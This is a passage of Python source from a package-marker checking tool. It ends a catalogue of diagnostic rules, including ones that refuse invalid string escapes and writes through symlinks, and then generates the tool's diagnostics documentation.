        stages=_CC,
    ),
    Rule(
        "MK622",
        "invalid-string-escape",
        "error",
        "string escape decodes to a lone surrogate or NUL",
        _READING,
        "`\\ud800` to `\\udfff` outside a surrogate pair decode to no character (nothing can "
        "encode them to UTF-8), and `\\u0000` ends a C string: both are refused at the escape, "
        "in any string of the file.",
        Example(document='[{"model_name": "demo\\ud800", "virtualenv": {"packages": ["a"]}}]\n'),
        Example(
            document='[{"model_name": "demo\\ud83d\\ude00", "virtualenv": {"packages": ["a"]}}]\n'
        ),
        stages=_CC,
    ),
    Rule(
        "MK623",
        "write-through-symlink",
        "error",
        "output path leads out of the output folder",
        _READING,
        "`compile -o DIR/` and `lock --out DIR` write only inside DIR: a folder or file under it "
        "that is a symlink to somewhere outside (a model folder linked to `/etc`, say) is refused "
        "before any file is written. DIR itself may be a link (it is the command line's choice), "
        "and so may anything that stays inside DIR.",
        Example(
            ("alpha",),
            args=("compile", "{hub}", "--engine", "vllm", "-o", "out/"),
            files=(("elsewhere/keep.txt", "not markerc's\n"), ("out/.keep", "")),
            links=(("out/demo", "../elsewhere"),),
        ),
        Example(
            ("alpha",),
            args=("compile", "{hub}", "--engine", "vllm", "-o", "out/"),
            files=(("elsewhere/keep.txt", "not markerc's\n"), ("out/.keep", "")),
        ),
        stages=("compile", "lock"),
    ),
    Rule(
        "MK624",
        "fix-through-symlink",
        "error",
        "check --fix on a symlinked hub file",
        _READING,
        "`check --fix` rewrites files in place; a hub file that is a symlink would have it rewrite "
        "the file the link points to, which may be outside the repository. It is refused (before "
        "any file is written) unless `--fix-symlinks` says so; `check` without `--fix` reads "
        "symlinked files as usual.",
        Example(
            args=("check", "--fix", "linked.json"),
            document='{"packages": ["foo"]}\n',
            links=(("linked.json", "hub.json"),),
        ),
        Example(
            args=("check", "--fix", "--fix-symlinks", "linked.json"),
            document='{"packages": ["foo"]}\n',
            links=(("linked.json", "hub.json"),),
        ),
        stages=("cli",),
    ),
)


# ============================================================================ docs/diagnostics.md

_HEADER = """\
<!-- Generated by `python -m markerc.catalogue --write-docs` from markerc/catalogue.py; do not
edit by hand (a test fails when this file is stale). -->
# Diagnostics

Every problem markerc reports has a stable code. Codes never change meaning; new ones are added
at the end of their range. How `markerc check` selects, prints and fixes them is in
[check.md](check.md); the codes themselves are below.

* **Severity** is the default one: errors fail `check` (exit 1) and stop `compile`, `lock` and
  `install` (exit 2); warnings fail `check` only with `--strict`.
* **Input errors** (the errors that `compile` also reports: entry syntax, marker semantics, hub
  structure, conflicts) are always reported by `check`, whatever the selection. Every other code
  of `check` is a rule that `--select`, `--ignore`, `--extend-select` and per-file ignores turn
  on and off; rules marked *off by default* run only when selected (`--select ALL`,
  `--extend-select MK302`).
* **Fixable** rules are rewritten by `check --fix` when selected, touching only the characters
  of the flagged strings.
* The examples are entries of a `virtualenv.packages` list unless they show a block or a command;
  the tests run every pair (the bad one gives the code, the fixed one does not).
"""


def _json_list(entries: tuple[str, ...]) -> str:
    import json

    return ", ".join(json.dumps(e) for e in entries)


def example_text(example: Example) -> str:
    """One line (or more, for a document) describing the example as the docs show it."""
    import shlex

    if example.document is not None:
        text = example.document.rstrip("\n")
    elif example.block:
        packages = _json_list(example.entries)
        text = f'"virtualenv": {{"packages": [{packages}], {example.block}}}'
    else:
        text = _json_list(example.entries)
    if example.args:
        args = [a.replace("{hub}", "hub.json").replace("{wheels}", "wheels/") for a in example.args]
        command = "markerc " + shlex.join(args)
        where = f"hub.json: {text}" if example.document is None else "hub.json above"
        text = f"{command}      ({where})"
        for name, body in example.files:
            text += f"\n       {name}: " + body.rstrip("\n").replace(
                "\n", "\n       " + " " * (len(name) + 2)
            )
        if example.wheels:
            text += f"\n       wheels/: {', '.join(example.wheels)}"
        for name, target in example.links:
            text += f"\n       {name} -> {target} (a symlink)"
    if example.note:
        text += f"      ({example.note})"
    return text


def _wrap(text: str) -> str:
    import textwrap

    return textwrap.fill(text, width=98, break_long_words=False, break_on_hyphens=False)


def _badge(rule: Rule) -> str:
    parts = [f"`{rule.name}`", f"**{rule.severity}**"]
    if rule.selectable:
        parts.append("on by default" if rule.default else "*off by default*")
    elif "check" in rule.stages:
        parts.append("always reported")
    parts.append(", ".join(rule.stages))
    if rule.fixable:
        parts.append("fixable")
    return " · ".join(parts)


def render_docs() -> str:
    """The text of ``docs/diagnostics.md``."""
    out = [
        _HEADER,
        "| code | name | severity | default | fix | title |",
        "| --- | --- | --- | --- | --- | --- |",
    ]
    for r in RULES:
        default = (
            ("on" if r.default else "off")
            if r.selectable
            else ("always" if "check" in r.stages else "")
        )
        out.append(
            f"| {r.code} | `{r.name}` | {r.severity} | {default} | {'yes' if r.fixable else ''} "
            f"| {r.title} |"
        )
    group = None
    for r in RULES:
        if r.group != group:
            group = r.group
            out += ["", "---", "", f"## {group}"]
        out += ["", f"## {r.code} {r.title}", "", _badge(r), "", _wrap(r.explanation), ""]
        out += ["```", "bad:   " + example_text(r.bad), "fixed: " + example_text(r.fixed), "```"]
        if r.fix:
            out += ["", _wrap(f"**Fix** (`markerc check --fix`): {r.fix}.")]
    return "\n".join(out) + "\n"


def _docs_path() -> str:
    import os

    return os.path.join(
        os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "docs", "diagnostics.md"
    )


if __name__ == "__main__":  # python -m markerc.catalogue --write-docs | --check-docs
    import sys

    arg = sys.argv[1:]
    if arg == ["--write-docs"]:
        with open(_docs_path(), "w", encoding="utf-8", newline="\n") as fh:
            fh.write(render_docs())
    elif arg == ["--check-docs"]:
        with open(_docs_path(), encoding="utf-8") as fh:
            stale = fh.read() != render_docs()
        if stale:
            sys.exit("docs/diagnostics.md is stale: run python -m markerc.catalogue --write-docs")
    else:
        sys.exit("usage: python -m markerc.catalogue --write-docs | --check-docs")
